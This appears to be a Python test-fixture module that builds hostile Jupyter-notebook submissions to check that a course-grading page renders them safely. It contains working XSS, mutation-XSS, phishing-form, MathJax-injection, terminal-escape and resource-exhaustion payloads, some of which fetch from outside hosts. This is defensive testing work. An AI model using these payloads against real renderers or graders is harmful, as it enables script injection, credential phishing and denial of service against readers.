"""Attacks on whoever reads: in written answers, in outputs, and in texts that take a renderer for ever."""

from __future__ import annotations

from nbformat.v4 import new_code_cell, new_markdown_cell

from grading_course import GOOD, answered, cell
from hostile import Entry, attack, files

TO_MARK = "needs marking"
WRITTEN = "sampling-law"


def written(text: str):
    """A submission with this written answer."""
    notebook = answered(GOOD)
    cell(notebook, WRITTEN).source = text
    return files(notebook=notebook)


def shown(*lines: str):
    """A submission with an own cell for each piece of code, which shows something."""
    notebook = answered(GOOD)
    notebook.cells[:0] = [new_code_cell(line) for line in lines]
    return files(notebook=notebook)


def text_cell(text: str):
    notebook = answered(GOOD)
    notebook.cells.insert(0, new_markdown_cell(text))
    return files(notebook=notebook)


def bundle(kind: str, text: str, metadata: str = "{}") -> str:
    return f"from IPython.display import display\ndisplay({{{kind!r}: {text!r}}}, raw=True, metadata={metadata})"


SCRIPT = "<script>document.title='owned';fetch('http://127.0.0.1:9/')</script>"
ATTRIBUTES = "<img src=x onerror=alert(1)><svg onload=alert(2)><details open ontoggle=alert(3)>x</details>"
LINKS = (
    "[a](javascript:alert(1)) [b](data:text/html,<script>alert(2)</script>) <a href=' &#1;javascript:alert(3)'>c</a>"
)
FRAMES = "<iframe src='//example.org'></iframe><object data='//example.org'></object><embed src='//example.org'>"
HEAD = (
    "<base href='//example.org/'><meta http-equiv=refresh content='0;url=//example.org'><link rel=stylesheet href=//x>"
)
FORM = "<form action='//example.org'><input name=password autofocus onfocus=alert(1)><button>Log in</button></form>"
MUTATED = "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>"
COMMENT = (
    "<!--><img src=x onerror=alert(1)>--> <![CDATA[<script>alert(2)</script>]]> "
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"
)
STYLE = (
    "<style>*{background:url(//example.org)}</style>"
    "<p style='position:fixed;inset:0;background:url(//example.org)'>x</p>"
)
TEX = (
    r"$\href{javascript:alert(1)}{x}$ $$\unicode{<script>alert(2)</script>}$$ "
    r"$\style{background:url(//example.org)}{x}$ $</span><script>alert(3)</script>$"
)
BOMB = (
    r"$\def\a{\b\b\b\b\b\b\b\b}\def\b{\c\c\c\c\c\c\c\c}\def\c{\d\d\d\d\d\d\d\d}\def\d{\e\e\e\e\e\e\e\e}"
    r"\def\e{xxxxxxxxxx}\a\a\a\a$ $\def\x{\x\x}\x$"
)
NAMED = (
    "The law of each. " + r"$\mmlToken{mi}[id=test-reference-sample]{}$ $\mmlToken{mi}[id=sampling-law class=score]{}$ "
    r"$\mmlToken{mtext}[style='position:fixed;inset:0' href='https://example.org/']{Log in}$ $\label{f-divergence}x$"
)
REDEFINED = (
    r"$\def\mathsf{\mmlToken{mtext}[style='position:fixed;inset:0' href='https://example.org/']{You have 0 points.}}$ "
    r"$\let\log\mathsf\DeclareMathOperator{\int}{0}\newcommand{\mathbb}{0}$"
)
OVERLAPPING = "".join(f"<b title={number}>" for number in range(500)) + "<p>x" * 1500
STYLES = "from IPython.display import display\ndisplay({'text/html': '<style' * 200_000}, raw=True)"
REMOTE = (
    "![x](https://example.org/pixel.png) <img src=//example.org/x.png> <video src=//example.org/v autoplay></video>"
)
ENTITIES = "&lt;script&gt;alert(1)&lt;/script&gt; `<script>alert(2)</script>` \\<script\\>alert(3)\\</script\\>"
SIZES = (
    "{'image/png': {'width': '1 onload=alert(1)', 'height': '\"><script>alert(2)</script>', "
    "'alt': '\"><script>alert(3)</script>'}}"
)
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
LARGE = "from IPython.display import display\ndisplay({'image/png': 'A' * 7_000_000}, raw=True)"
SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script>"
    "<a href='javascript:alert(3)'><text>x</text></a></svg>"
)
FOREIGN = (
    "{'application/vnd.jupyter.widget-view+json': {'model_id': '</script><script>alert(1)</script>'}, "
    "'application/vnd.bokehjs_exec.v0+json': ''}"
)

CORPUS = [
    Entry("w-script", "A script in an answer.", written(SCRIPT), 2, TO_MARK),
    Entry("w-attributes", "Handlers of events in an answer.", written(ATTRIBUTES), 2, TO_MARK),
    Entry("w-links", "Links that run code.", written(LINKS), 2, TO_MARK),
    Entry("w-frames", "Frames of other sites.", written(FRAMES), 2, TO_MARK),
    Entry("w-head", "What moves the page elsewhere.", written(HEAD), 2, TO_MARK),
    Entry("w-form", "A form that asks for a password.", written(FORM), 2, TO_MARK),
    Entry("w-mutated", "Markup that turns into a handler when it is parsed twice.", written(MUTATED), 2, TO_MARK),
    Entry("w-comment", "A handler in a comment that ends early.", written(COMMENT), 2, TO_MARK),
    Entry("w-style", "Styles that cover the page and fetch.", written(STYLE), 2, TO_MARK),
    Entry("w-tex", "Formulas with links, styles and scripts.", written(TEX), 2, TO_MARK),
    Entry("w-named", "Formulas with the names that the marking page gives to its fields.", written(NAMED), 2, TO_MARK),
    Entry("w-redefined", "A formula that gives every later one another meaning.", text_cell(REDEFINED), 2),
    Entry("w-bomb", "Formulas that grow without end.", written(BOMB), 2, TO_MARK),
    Entry("w-remote", "Pictures from elsewhere, which tell who looks.", written(REMOTE), 2, TO_MARK),
    Entry("w-entities", "Markup as entities and as code.", written(ENTITIES), 2, TO_MARK),
    Entry("w-brackets", "Twenty thousand brackets for the Markdown reader.", written("[" * 20_000), 2, TO_MARK),
    Entry("w-stars", "Twenty thousand stars that open and close nothing.", written("*a **a " * 10_000), 2, TO_MARK),
    Entry("w-quotes", "Quotes within quotes, a thousand deep.", written("> " * 1000 + "x"), 2, TO_MARK),
    Entry("w-elements", "Five thousand elements, each in the other.", text_cell("<div>" * 5000), 2),
    Entry("w-overlapping", "Elements that overlap, all open in each of many paragraphs.", text_cell(OVERLAPPING), 2),
    Entry("w-blanks", "A word, forty thousand blanks, and a word.", text_cell("a" + " " * 40_000 + "b"), 2),
    Entry("w-missing", "A picture that was never attached.", text_cell("![x](attachment:x.png) <script>"), 2),
    Entry("w-dollars", "A hundred thousand dollars.", written("$a" * 50_000 + "$$"), 2, TO_MARK),
    Entry("w-code", "A line of code of nine hundred thousand characters.", attack("x = '" + "a\\'" * 300_000 + "'"), 2),
    Entry(
        "o-html",
        "HTML with scripts and handlers as output.",
        shown(bundle("text/html", SCRIPT + ATTRIBUTES + FRAMES + HEAD + FORM + MUTATED)),
        2,
    ),
    Entry(
        "o-script", "A script as output.", shown(bundle("application/javascript", "document.title='owned';alert(1)")), 2
    ),
    Entry("o-svg", "A drawing with a script as output.", shown(bundle("image/svg+xml", SVG)), 2),
    Entry(
        "o-markdown",
        "Markdown with all of these as output.",
        shown(bundle("text/markdown", SCRIPT + LINKS + REMOTE + STYLE)),
        2,
    ),
    Entry("o-latex", "LaTeX with a script as output.", shown(bundle("text/latex", TEX + SCRIPT)), 2),
    Entry("o-sizes", "A picture whose sizes are handlers.", shown(bundle("image/png", PIXEL, SIZES)), 2),
    Entry(
        "o-types",
        "Outputs of widgets and other programs.",
        shown(f"from IPython.display import display\ndisplay({FOREIGN}, raw=True)"),
        2,
    ),
    Entry(
        "o-error",
        "An error made of markup and of the terminal's commands.",
        shown(
            "raise type('<script>alert(1)</script>', (Exception,), {})("
            "'<img src=x onerror=alert(2)>\\x1b]0;owned\\x07\\x1b[2J\\x1b]8;;javascript:alert(3)\\x07x')"
        ),
        2,
    ),
    Entry(
        "o-ansi",
        "Printed commands for the terminal.",
        shown("print('\\x1b[2J\\x1b]0;owned\\x07\\x1b[38;2;1;2;3m</pre><script>alert(1)</script>\\x9b31m\\r\\b\\x00')"),
        2,
    ),
    Entry("o-styles", "Two hundred thousand styles that never end.", shown(STYLES), 2),
    Entry("o-large", "Six pictures of seven megabytes.", shown(*[LARGE] * 6), 2),
]
